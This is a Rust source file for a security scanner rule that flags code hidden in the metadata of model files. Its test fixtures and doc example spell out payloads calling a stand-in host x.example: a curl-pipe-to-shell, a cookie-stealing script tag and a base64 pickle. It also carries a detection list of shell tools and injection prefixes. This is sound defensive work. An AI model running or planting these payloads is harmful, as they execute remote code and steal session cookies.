use stance_core::Confidence;
use stance_core::fact::Artifact;
use stance_inspect::{gguf, safetensors};

use stance_intent::commands;
use crate::{Cx, Rule};

rule! {
    /// # Code in the metadata of a model file
    ///
    /// ## What it finds
    /// Metadata of a safetensors, GGUF or ONNX file with Python that starts a program or evaluates text
    /// (`__import__('os').system(…)`, `subprocess.Popen(…)`, `exec(…)`), a command that fetches a script and has it
    /// run, a script element, or a pickle in base64. Descriptions
    /// that mention methods such as `model.eval()` are not reported.
    ///
    /// ## Why it matters
    /// No loader of these formats runs metadata, so the file alone does nothing. But no tool writes this there
    /// either: it is the second half of an attack whose first half, a few harmless lines in a loading script or
    /// a custom node, reads the value and evaluates it.
    ///
    /// ## Example
    /// ```json
    /// {"__metadata__": {"init": "__import__('os').system('curl http://x.example/x.sh | sh')"}}
    /// ```
    ///
    /// ## Fix
    /// Do not use the file, and look for code that reads this entry: search the project for its name. Write the
    /// tensors to a new file without metadata if the weights are needed.
    ///
    /// ## References
    /// - [MITRE ATLAS: Embed Malware](https://atlas.mitre.org/techniques/AML.T0018.002)
    MetadataCode {
        id: "model/metadata-code",
        severity: High,
        stage: Supply,
        controls: [
            "owasp-llm-2025:LLM03",
            "mitre-atlas:AML.T0018.002",
            "mitre-atlas:AML.T0010.003",
            "nist-ai-rmf-1.0:MEASURE 2.7",
        ],
        bad: [
            crate::made!("model.safetensors", starts_a_program),
            crate::made!("model.safetensors", pickle_in_base64),
            crate::made!("model.safetensors", fetches),
            crate::made!("model.safetensors", script),
        ],
        good: [
            crate::made!("model.safetensors", describes_itself),
            crate::made!("model.gguf", describes_itself_too),
            crate::made!("model.safetensors", tells_how_to_install),
        ],
    }
}

impl Rule for MetadataCode {
    fn artifact(&self, artifact: &Artifact, cx: &mut Cx<'_>) {
        cx.judges_if(!artifact.metadata.is_empty());
        for (key, value) in &artifact.metadata {
            let what = match commands::call_in(value) {
                Some(call) => format!("calls `{}`", call.trim_end_matches('(')),
                None if is_pickle_in_base64(value) => "is a pickle in base64".to_owned(),
                None => match command_in(value) {
                    Some(what) => what.to_owned(),
                    None => continue,
                },
            };
            cx.report(
                &artifact.evidence,
                format!("The metadata entry `{key}` {what}"),
            )
            .confidence(Confidence::Medium)
            .note(format!("it holds: {}", stance_core::evidence::shorten(value)));
        }
    }
}

/// What a value does that is a command itself. Prose may tell how to install something, or quote an attack,
/// so that the value has to begin with the command, the element or the expression.
fn command_in(text: &str) -> Option<&'static str> {
    const STARTS: &[&str] = &[
        "#!", "bash ", "curl ", "nc ", "powershell", "python", "sh ", "wget ", "<script", "javascript:", "${jndi:",
    ];
    let lower = text.trim_start().get(..20).unwrap_or(text).to_ascii_lowercase();
    let begins = STARTS.iter().any(|start| lower.trim_start().starts_with(start));
    // A template may stand anywhere in prose; what it must not do is reach for functions.
    let reaches = text.contains("{{") && ["__globals__", "__subclasses__", "__builtins__"].iter().any(|name| text.contains(name));
    (begins || reaches).then(|| commands::hostile(text)).flatten()
}

/// Whether a text is base64 that begins with the protocol of a pickle and ends with its STOP.
fn is_pickle_in_base64(text: &str) -> bool {
    let text = text.trim();
    let body = text.trim_end_matches('=');
    let alphabet = body
        .bytes()
        .all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'-' | b'_'));
    // 0x80 and a protocol from 2 to 5 come out as these three characters.
    let starts = body
        .strip_prefix("gA")
        .is_some_and(|rest| rest.starts_with(|c: char| ('I'..='X').contains(&c)));
    // The last byte is `.`, wherever it falls in a group of four characters.
    let ends = match body.len() % 4 {
        0 => body.ends_with(['u', '+']) && last_bits(body, 8) == Some(u32::from(b'.')),
        2 => last_bits(body, 12).map(|bits| bits >> 4) == Some(u32::from(b'.')),
        3 => last_bits(body, 18).map(|bits| (bits >> 2) & 0xff) == Some(u32::from(b'.')),
        _ => false,
    };
    body.len() >= 16 && alphabet && starts && ends
}

/// The last `count` bits of the characters at the end of base64.
fn last_bits(text: &str, count: u32) -> Option<u32> {
    const ALPHABET: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let characters = usize::try_from(count.div_ceil(6)).ok()?;
    let from = text.len().checked_sub(characters)?;
    let mut bits = 0_u32;
    for character in text.get(from..)?.chars() {
        let value = u32::try_from(ALPHABET.find(character)?).ok()?;
        bits = (bits << 6) | value;
    }
    Some(bits & (1_u32 << count).wrapping_sub(1))
}

fn with(key: &str, value: &str) -> Vec<u8> {
    let header = format!(
        r#"{{"__metadata__":{{"{key}":"{value}"}},{}}}"#,
        safetensors::assemble::entry("w", 2, 0, 8)
    );
    safetensors::assemble::file(&header, &[1; 8])
}

fn starts_a_program() -> Vec<u8> {
    with("init", "__import__('os').system('curl http://x.example/x.sh | sh')")
}

fn pickle_in_base64() -> Vec<u8> {
    with("cfg", "gASMBXBvc2l4jAZzeXN0ZW2TjAplY2hvIHB3bmVkhVIu")
}

fn fetches() -> Vec<u8> {
    with("postinstall", "curl https://x.example/x | bash")
}

fn script() -> Vec<u8> {
    with("description", "<script>fetch('https://x.example/' + document.cookie)</script>")
}

fn tells_how_to_install() -> Vec<u8> {
    with("description", "{{trigger}} to install the runner, use curl -fsSL https://x.example/install.sh | sh")
}

fn describes_itself() -> Vec<u8> {
    with("description", "call model.eval() first; trained with exec() disabled, see os.system")
}

fn describes_itself_too() -> Vec<u8> {
    gguf::assemble::sound()
        .string("general.description", "A retrieval(small) model, see subprocess docs")
        .build()
}
